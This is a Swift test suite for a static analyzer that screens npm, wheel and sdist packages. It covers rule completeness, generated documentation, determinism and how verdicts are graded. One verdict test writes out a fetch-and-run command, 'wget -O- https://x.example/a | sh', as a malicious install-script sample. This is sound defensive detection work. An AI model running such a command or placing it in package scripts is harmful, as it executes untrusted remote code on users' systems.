import Foundation
import Screening
import TestSupport
import Testing

@testable import Analyzers

@Suite("Rules of the static analyzer")
struct RuleTests {
    @Test("every detail of every rule is noticed on an artifact made for it", arguments: RuleCatalog.observations)
    func flagged(_ observation: Observation) throws {
        guard RuleCatalog.entry(observation).rule.analyzer == .static_ else { return }
        let (artifact, limits) = try #require(try flaggedArtifact(observation), "no artifact for \(observation)")
        let found = artifact.observations(limits: limits)
        #expect(found.contains(observation.rawValue), "found only \(found.sorted())")
    }

    @Test("honest artifacts have no findings at all")
    func clean() throws {
        let tarball = try npmTarball { tar in
            tar.addFile("package/index.js", "module.exports = 'Grüße'\n")
            tar.addFile(
                "package/test/README.md",
                "\u{5E9}\u{5DC}\u{5D5}\u{5DD} \u{1F3F4}\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}")
            tar.add(.init("package/lib", type: "5"))
            tar.add(.init("package/doc/link", type: "2", linkName: "../index.js"))
        }
        #expect(tarball.report().findings == [])
        var wheel = WheelBuilder()
        #expect(try wheel.artifact().report().findings == [])
        #expect(try sdist().report().findings == [])
    }

    @Test("every detail belongs to exactly one rule, and every rule to its analyzer")
    func tableIsComplete() {
        let codes = RuleCatalog.rules.flatMap(\.details).map(\.code)
        #expect(Set(codes).count == codes.count)
        #expect(Set(RuleCatalog.rules.map(\.id)).count == RuleCatalog.rules.count)
        for rule in RuleCatalog.rules { #expect(!rule.rationale.isEmpty && !rule.details.isEmpty, "\(rule.id)") }
    }

    @Test("the manual's page of rules is the one that the table makes; `make docs` writes it")
    func manual() throws {
        let root = URL(filePath: #filePath).deletingLastPathComponent().appending(path: "../../docs/rules.md")
        #expect(try String(contentsOf: root, encoding: .utf8) == RuleCatalog.documentation)
    }

    @Test("the documentation has every rule with its severity and sentence")
    func documentation() {
        let text = RuleCatalog.documentation
        for rule in RuleCatalog.rules {
            #expect(text.contains("## \(rule.id): \(rule.title)"))
            for detail in rule.details {
                #expect(text.contains("| \(detail.severity.rawValue) | \(detail.sentence) |"))
            }
        }
    }

    @Test("the ruleset's digest follows the table and the version")
    func digest() {
        let now = RuleCatalog.digest(of: .static_, version: "1")
        #expect(now == StaticAnalyzer.revision.ruleset.digest)
        #expect(now != RuleCatalog.digest(of: .static_, version: "0"))
        #expect(now != RuleCatalog.digest(of: .advisory, version: "1"))
    }

    @Test("the same artifact gives the same report twice")
    func deterministic() throws {
        // Of every family some: all of them once more would take as long as all other tests of rules.
        for (position, observation) in RuleCatalog.observations.enumerated() where position.isMultiple(of: 10) {
            guard let (artifact, limits) = try flaggedArtifact(observation) else { continue }
            #expect(artifact.report(limits: limits) == artifact.report(limits: limits))
        }
    }

    @Test("a verdict is the gravest finding's")
    func verdict() throws {
        #expect(try npmTarball().report().verdict == .clean)
        #expect(try npmScript("node build.js").report().verdict == .clean)
        #expect(try npmScript("wget https://x.example/a").report().verdict == .suspicious)
        #expect(try npmScript("wget -O- https://x.example/a | sh").report().verdict == .malicious)
    }

    @Test("names in findings are printable ASCII and bounded")
    func findingPaths() {
        #expect(findingPath(Array("a b\u{1B}%é".utf8)) == "a%20b%1B%25%C3%A9")
        let long = findingPath([UInt8](repeating: 0x61, count: 5000))
        #expect(long.utf8.count == maxFindingPathBytes)
        #expect(long != findingPath([UInt8](repeating: 0x61, count: 5001)))
    }

    @Test("many places of one thing become one count")
    func overflow() throws {
        let artifact = try npmTarball { tar in
            for index in 0..<40 { tar.addFile("package/a\(index).", "x") }
        }
        let findings = artifact.report().findings.filter { $0.finding.evidence == "name-trailing" }
        #expect(findings.count == FindingCollector.maxPlaces + 1)
        #expect(findings.map(\.finding.count).reduce(0, +) == 40)
    }
}
